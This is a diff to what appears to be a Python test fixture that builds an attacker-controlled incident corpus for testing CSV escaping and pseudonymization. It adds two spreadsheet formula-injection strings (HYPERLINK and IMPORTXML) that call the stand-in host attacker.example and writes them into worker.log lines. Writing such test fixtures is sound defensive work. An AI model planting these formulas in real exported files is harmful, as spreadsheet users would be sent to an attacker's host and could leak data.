@@ -121,6 +121,12 @@ def _access_escape(text: str) -> str:
     return "".join(out)
 
 
+WORKER_FORMULAS = (
+    '=HYPERLINK("https://attacker.example/worker","open")',
+    '=IMPORTXML("https://attacker.example/worker","//a")',
+)
+
+
 def write_corpus(root: Path) -> None:
     """An incident with payloads and secrets in every field an attacker controls."""
     root.mkdir()
@@ -162,6 +168,11 @@ def write_corpus(root: Path) -> None:
     for i, text in enumerate(texts):
         one_line = text.replace("\n", " ")
         py.append(f"{_time(650 + i).strftime('%Y-%m-%d %H:%M:%S')},000 - worker - ERROR - {one_line}")
+    # Formulas of the worker's own, named by no user: the user names above are the payloads, and a
+    # known user name is pseudonymized wherever it stands, also in worker.log's lines when they share
+    # a chunk with payments.jsonl's (small files are read together), so these keep formulas in the CSV.
+    for i, formula in enumerate(WORKER_FORMULAS):
+        py.append(f"{_time(700 + i).strftime('%Y-%m-%d %H:%M:%S')},000 - worker - ERROR - {formula}")
     (root / "worker.log").write_text("\n".join(py) + "\n", encoding="utf-8")
     # An Alertmanager payload whose name and summary carry payloads and secrets.
     alert = {
